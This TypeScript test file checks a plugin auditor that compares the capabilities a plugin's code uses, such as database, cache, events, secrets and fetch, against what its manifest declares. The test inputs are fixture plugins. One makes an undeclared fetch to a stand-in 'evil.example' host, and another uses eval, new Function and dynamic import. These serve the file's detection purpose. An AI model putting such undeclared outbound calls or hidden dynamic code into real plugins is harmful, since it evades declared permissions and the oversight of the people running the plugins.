// What a plugin's code would use, seen by its syntax, against what its manifest asks for.
import assert from "node:assert/strict";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { auditPlugin, type Audit } from "../../../../src/core/plugins/audit/audit.ts";
import { auditLines } from "../../../../src/cli/render/audit.ts";
import { write } from "../installer/workspace.ts";

let root: string;
let made = 0;
before(async () => {
  root = await mkdtemp(join(tmpdir(), "xcore-audit-"));
});
after(() => rm(root, { recursive: true, force: true }));

async function audit(code: string, permissions = "", more: Record<string, string> = {}): Promise<Audit> {
  const folder = write(join(root, `${(made += 1)}`), {
    "plugin.yaml": `name: sample\nversion: 1.0.0\n${permissions === "" ? "" : `permissions: ${permissions}\n`}`,
    "src/index.ts": `import { definePlugin, type Context } from "xcore/plugin";\n${code}`,
    ...more,
  });
  return auditPlugin(folder, { sealed: true });
}

const uses = (result: Audit): string[] =>
  result.uses.map(({ use, asked }) => `${asked ? "" : "unasked "}${use}`);
const plugin = (body: string): string => `export default definePlugin({ routes: { "GET /": ${body} } });`;

test("facades of the context are seen, however a handler takes them", async () => {
  for (const handler of [
    "async (_r, { db, cache: kept }) => { await kept.get('a'); return db.sql`select 1`; }",
    "async (_r, ctx) => { await ctx.cache.get('a'); return ctx.db.sql`select 1`; }",
    "async (_r, c: Context) => { const run = () => c.db.sql`select 1`; await c['cache'].get('a'); return run(); }",
  ]) {
    assert.deepEqual(uses(await audit(plugin(handler), "{ database: true }")), ["unasked cache", "database"]);
  }
});

test("calls, events, secrets, jobs and hosts are named, and their places are those of the source", async () => {
  const result = await audit(
    `
async function tell(ctx: Context): Promise<void> {
  await ctx.events.publish("note.created", {});
  await ctx.call("mailer.send", {});
  await ctx.secrets.get("TOKEN");
  await ctx.fetch(new URL("https://api.example.com/v1"));
}
export default definePlugin({
  routes: { "GET /": async (_r, ctx) => { await tell(ctx); return fetch(\`https://evil.example/\${Date.now()}\`); } },
  jobs: { digest: { every: "1 hour", run: () => null } },
  events: { "user.created": () => undefined },
});`,
    "{ fetch: ['*.example.com'], call: [mailer.*], events: { publish: [note.*], subscribe: [user.created] }, secrets: [TOKEN], jobs: true }",
  );
  assert.deepEqual(uses(result), [
    "call mailer.send",
    "events.publish note.created",
    "events.subscribe user.created",
    "fetch api.example.com",
    "unasked fetch evil.example",
    "jobs",
    "secrets TOKEN",
  ]);
  assert.deepEqual(result.unused, []);
  const [call] = result.uses;
  assert.deepEqual(
    call?.places.map(({ file, line }) => `${file}:${line}`),
    ["src/index.ts:5"],
  );
});

test("what is asked for and not seen is listed; a value that is computed counts as its kind only", async () => {
  const result = await audit(
    plugin("async (_r, ctx) => ctx.fetch(String(ctx.params['to']))"),
    "{ database: true, cache: true, fetch: [api.example.com], secrets: [A] }",
  );
  assert.deepEqual(uses(result), ["fetch"]);
  assert.deepEqual(result.unused, ["database", "cache", "fetch api.example.com", "secrets A"]);
});

test("hosts that only stand in the code are told apart from those that are fetched", async () => {
  const code = `const base = "https://other.example:8443/v1"; const part = "https://";
${plugin("async (_r, ctx) => ctx.fetch(base + part)")}`;
  const result = await audit(code, "{ fetch: [other.example:8443] }");
  assert.deepEqual(
    result.mentions.map(({ host, asked }) => [host, asked]),
    [["other.example:8443", true]],
  );
  assert.deepEqual(result.unused, []);
});

test("code made at run time and embedded data are found, in packages, too", async () => {
  const result = await audit(
    `import { run } from "dyn";
${plugin(`() => [eval("1"), new Function("return 1"), (() => 0).constructor("return 1")(), import(String(run)), typeof WebAssembly, setTimeout("x"), "${"A".repeat(3000)}"].length`)}`,
    "",
    {
      "node_modules/dyn/package.json": '{ "main": "index.js" }',
      "node_modules/dyn/index.js": 'exports.run = (f, x) => { f.call(x); x.cache; return (0, eval)("1"); };',
    },
  );
  assert.deepEqual(
    result.dynamic.map(({ kind }) => kind),
    ["Function", "WebAssembly", "embedded data", "eval", "import()", "setTimeout with text"],
  );
  assert.ok(
    result.dynamic.some(({ places }) => places.some(({ file }) => file.startsWith("node_modules/dyn/"))),
  );
  assert.deepEqual(uses(result), []);
  assert.match(
    auditLines(result).join("\n"),
    /Code or data that can't be read like this\n  Function  src\/index\.ts:/,
  );
});

test("a plugin that does what it says stands out by nothing", async () => {
  const result = await audit(plugin("() => 'hello'"));
  assert.deepEqual([result.uses, result.unused, result.mentions, result.dynamic], [[], [], [], []]);
  assert.match(auditLines(result).join("\n"), /Nothing stands out/);
});
